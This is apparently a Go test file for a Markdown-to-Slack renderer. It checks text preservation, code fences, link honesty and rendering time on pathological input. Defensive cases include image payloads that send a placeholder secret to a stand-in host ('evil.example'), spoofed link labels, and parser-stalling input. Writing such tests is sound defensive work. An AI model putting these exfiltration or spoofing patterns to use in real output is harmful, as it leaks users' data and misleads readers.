package slack

import (
	"encoding/json"
	"strings"
	"syscall"
	"testing"
	"time"
)

func TestCommandsOutsideCodeSpansKeepEveryCharacter(t *testing.T) {
	for _, s := range []string{
		"rm /tmp/*.lock and /var/*.lock",
		"2*3*4 = 24",
		"cp nginx-*-access-*.log and app_*_log_* away",
		"edit foo/__init__.py and bar/__init__.py",
		"the __init__ of it, and ${VAR_A}_${VAR_B}_x",
		"ls */foo/* and **/*.go and /data/**/logs/**/x",
		`rate(x{a=~"foo.*"}[5m]) / rate(y{b=~".*"}[5m])`,
		"cron 0 */2 * * * and */5 * * * *",
		"allow *.example.com and *.example.org",
		"glob {*.js,*.ts} and *.log*",
		"kubectl logs <pod> -n <namespace> --since=1h",
		"kubectl exec <pod-name> -- kill -9 <pid>",
		"cat ~/a ~user/b, about ~5~ of ~10",
		"GET /api?a=1&copy=2&lt=3",
		"a && b || c; d > e < f",
		"#5 and [E1] and [x] and ^caret",
		"$1,000 costs 5% @here :fire: <!channel>",
	} {
		if got := shows(t, s, nil); got != s+"\n" {
			t.Errorf("%q is shown as %q", s, got)
		}
	}
}

func TestEmphasisIsEmphasisNextToCommands(t *testing.T) {
	for md, want := range map[string]string{
		"**P1**: *likely* cause, __really__ bad":         "P1: likely cause, __really__ bad\n",
		"**502**/**503** on **/api/v2/users**":           "502/503 on /api/v2/users\n",
		"(*see below*) and _also this_.":                 "(see below) and also this.\n",
		"***both*** and **bold with *italic* inside**":   "both and bold with italic inside\n",
		"orphan ** stars and one * more":                 "orphan ** stars and one * more\n",
		"## **Bold** *heading* with `code`":              "Bold heading with code\n",
		"a **bold [link](https://a.example/x)**, ~~no~~": "a bold link (https://a.example/x), no\n",
	} {
		if got := shows(t, md, nil); got != want {
			t.Errorf("%q is shown as %q, want %q", md, got, want)
		}
	}
}

func TestAReportInAFenceIsShownAsAReport(t *testing.T) {
	report := "# Pool full\n\n## What Do I Do Right Now?\n1. **Drain** it\n\n```bash\nkubectl *x*\n```\n\n## Next\n- wait"
	bare := strings.Replace(report, "```bash", "```", 1)
	want := shows(t, report, nil)
	for name, md := range map[string]string{
		"markdown":                  "```markdown\n" + report + "\n```",
		"md":                        "\n\n```md\n" + report + "\n```\n",
		"upper case":                "```Markdown\n" + report + "\n```",
		"no language":               "```\n" + report + "\n```",
		"longer mark":               "````markdown\n" + report + "\n````",
		"tildes":                    "~~~markdown\n" + report + "\n~~~",
		"bare fence inside":         "```markdown\n" + bare + "\n```",
		"never closed":              "```markdown\n" + report,
		"never closed, no language": "```\n" + report,
	} {
		if got := shows(t, md, nil); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if got := shows(t, "Here it is:\n\n```markdown\n"+report+"\n```\n\nBye.", nil); got != "Here it is:\n"+want+"Bye.\n" {
		t.Errorf("between other text: %q", got)
	}
}

func TestCodeInAFenceStaysCode(t *testing.T) {
	for name, md := range map[string]string{
		"one fence":          "```\nkubectl get pods\n# a comment\n```",
		"a language":         "```bash\n# restart\nkubectl *x* **y**\n## really\n```",
		"two fences":         "```\na\n```\n\n## Then\n\n```\nb\n```",
		"slack link in code": "```\n| <https://a.example|b> |\n```",
	} {
		raw, err := json.Marshal(Render(md, Options{})[0].Blocks)
		if err != nil || !strings.Contains(string(raw), `"rich_text_preformatted"`) {
			t.Errorf("%s: no code in %s", name, raw)
		}
	}
	if got := shows(t, "```\n| <https://a.example|b> | *x* &amp; \\* |\n\tindent\n```", nil); got != "| <https://a.example|b> | *x* &amp; \\* |\n\tindent\n" {
		t.Errorf("%q", got)
	}
}

func TestSlacksOwnLinksAreLinksWhereverTheyStand(t *testing.T) {
	for md, want := range map[string]string{
		"<https://a.example/g|runbook>":                                                          "runbook (https://a.example/g)\n",
		"see <https://a.example/g|the whole runbook>, **<https://a.example/h|bold>**":            "see the whole runbook (https://a.example/g), bold (https://a.example/h)\n",
		"- <https://a.example/g|one>\n- two":                                                     "• one (https://a.example/g)\n• two\n",
		"> <https://a.example/g|one>":                                                            "one (https://a.example/g)\n",
		"## <https://a.example/g|one>":                                                           "one (https://a.example/g)\n",
		"| Ticket | Who |\n|---|---|\n| <https://a.example/1|P-1> | Jane |":                      "• P-1 (https://a.example/1) · Who: Jane\n",
		"<mailto:a@b.example|a@b.example> <#C0123|incidents> <@U1|jane> <!subteam^S1|@platform>": "a@b.example #incidents @jane @platform\n",
		"<https://a.example/g>":                                                                  "https://a.example/g\n",
		"`<https://a.example/g|x>`":                                                              "<https://a.example/g|x>\n",
	} {
		if got := shows(t, md, nil); got != want {
			t.Errorf("%q is shown as %q, want %q", md, got, want)
		}
	}
}

func TestBareAddressesStayText(t *testing.T) {
	for _, md := range []string{"see https://evil.example/x.", "**https://evil.example/x**", "`https://evil.example/x`", "| a |\n|---|\n| https://evil.example/x |"} {
		raw, err := json.Marshal(Render(md, Options{})[0].Blocks)
		if err != nil || strings.Contains(string(raw), `"url"`) || !strings.Contains(string(raw), "https://evil.example/x") {
			t.Errorf("%q: %s, %v", md, raw, err)
		}
	}
}

func TestAddressesAreUnescapedOnce(t *testing.T) {
	got := shows(t, "[x](https://a.example/?q=a\\_b&amp;c=d&copy=1) <https://a.example/?a=1&amp;b=2>", nil)
	if want := "x (https://a.example/?q=a_b&c=d&copy=1) https://a.example/?a=1&b=2\n"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestALabelCannotLieAboutWhereALinkLeads(t *testing.T) {
	got := shows(t, "[https://runbooks.example/gateway](https://other.example/x) [Runbook](https://other.example/x?a=1|https://runbooks.example/g)", nil)
	want := "https://other.example/x Runbook (https://other.example/x?a=1%7Chttps://runbooks.example/g)\n"
	if got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestImagesNeverLoadAnything(t *testing.T) {
	only := func(url string) bool { return url == "https://good.example/a.png" }
	for md, want := range map[string]string{
		"![status](https://evil.example/p.png?d=SEKRIT)":            "status\n",
		"![](https://evil.example/p.png?d=SEKRIT)":                  "(image)\n",
		"![graph](https://good.example/a.png)":                      "graph (https://good.example/a.png)\n",
		"[![x](https://evil.example/p)](https://evil.example/q)":    "x\n",
		`<img src="https://evil.example/p.png?d=SEKRIT"> after`:     "after\n",
		"![r][1]\n\n[1]: https://evil.example/p.png?d=SEKRIT \"t\"": "r\n",
	} {
		got := shows(t, md, only)
		if got != want {
			t.Errorf("%q is shown as %q, want %q", md, got, want)
		}
	}
}

func TestNoWordVanishesInMarkdownsOddCorners(t *testing.T) {
	for md, want := range map[string]string{
		"[note]: down":                                                   "[note]: down\n",
		"see [a]\n\n[a]: https://a.example/x":                            "see a (https://a.example/x)\n",
		"| only | header |\n|---|---|":                                   "only · header\n",
		"| a | b |\n|---|---|\n| | x |\n| | |":                           "• b: x\n",
		"<details>\n<summary>More</summary>\ntext\n</details>":           "More\ntext\n",
		"x <span style='a'>y</span> <kbd>Esc</kbd><br/>z":                "x y Esc\nz\n",
		"line one  \nline two\\\nline three":                             "line one\nline two\nline three\n",
		"> **NEW** | **Urgency**: High\n> **Service**: api | **ID**: P1": "NEW | Urgency: High\nService: api | ID: P1\n",
		"> 1. a\n> 2. b\n>\n> ```\n> c\n> ```":                           "1. a\n2. b\nc\n",
		"3. c\n4. d":                                                     "3. c\n4. d\n",
		"1. a\n2.\n3. c":                                                 "1. a\n3. c\n",
		"- a\n\n  more of a\n- b":                                        "• a\nmore of a\n• b\n",
		"&#8238;evil&#0; &hearts; &unknown; &#9733;":                     "evil\uFFFD ♥ &unknown; ★\n",
		"a<!-- x": "a<!-- x\n",
		"***":     "",
	} {
		if got := shows(t, md, nil); got != want {
			t.Errorf("%q is shown as %q, want %q", md, got, want)
		}
	}
}

func TestWhatDoesNotFitIsNamedInTheLastLine(t *testing.T) {
	var b strings.Builder
	for _, title := range []string{"One", "Two", "Three"} {
		b.WriteString("## " + title + "\n" + strings.Repeat("word ", 1200) + "\n\n")
	}
	one := Render(b.String(), Options{Parts: 1})
	if len(one) != 1 {
		t.Fatalf("%d messages", len(one))
	}
	valid(t, one[0].Blocks)
	said := strings.Split(strings.TrimSpace(plain(one[0].Blocks)), "\n")
	if last := said[len(said)-1]; !strings.Contains(last, " characters more were left out (") || !strings.Contains(last, "Three)") || strings.Contains(last, "One") {
		t.Errorf("last line %q", last)
	}
	all := Render(b.String(), Options{})
	words := 0
	for _, m := range all {
		valid(t, m.Blocks)
		words += strings.Count(plain(m.Blocks), "word")
	}
	if len(all) != 3 || words != 3600 {
		t.Errorf("%d messages with %d words", len(all), words)
	}
}

func TestAFenceThatIsSplitIsWholeInEveryPart(t *testing.T) {
	code := strings.Repeat("    line of code\n", 1500)
	var back strings.Builder
	for _, m := range Render("```go\n"+code+"```", Options{}) {
		valid(t, m.Blocks)
		back.WriteString(plain(m.Blocks))
	}
	if back.String() != code {
		t.Error("the code is not the same")
	}
}

func TestCodeIsNotTakenForNesting(t *testing.T) {
	code := strings.Repeat("+-----", 30) + "+\n" + strings.Repeat(" ", 150) + "deep\n" + strings.Repeat("-", 200)
	if got := shows(t, "```\n"+code+"\n```", nil); got != code+"\n" {
		t.Errorf("%q", got)
	}
	if got := shows(t, strings.Repeat("> ", 3000)+"said", nil); got != "said\n" {
		t.Errorf("%q", got)
	}
}

func TestHostileMarkdownIsRenderedInTime(t *testing.T) {
	for name, one := range map[string]string{
		"brackets": "[", "stars": "*a ", "quotes": "> ", "bare quotes": ">", "numbers": "1. ", "both": "- > ", "backticks": "`a", "tags": "<a", "slack links": "<https://a|", "lists": "- ", "links": "[a](", "entities": "&", "underscores": "_a__",
		"emphasis": "**a *b ", "images": "![", "table": "|",
	} {
		t.Run(name, func(t *testing.T) {
			began := processorTime(t)
			for _, m := range Render(strings.Repeat(one, 200_000/len(one)), Options{}) {
				valid(t, m.Blocks)
			}
			if took := processorTime(t) - began; took > 10*time.Second {
				t.Errorf("took %s of the processor", took)
			}
		})
	}
}

// processorTime is what the process has used: a busy machine does not count.
func processorTime(t *testing.T) time.Duration {
	t.Helper()
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		t.Fatal(err)
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}
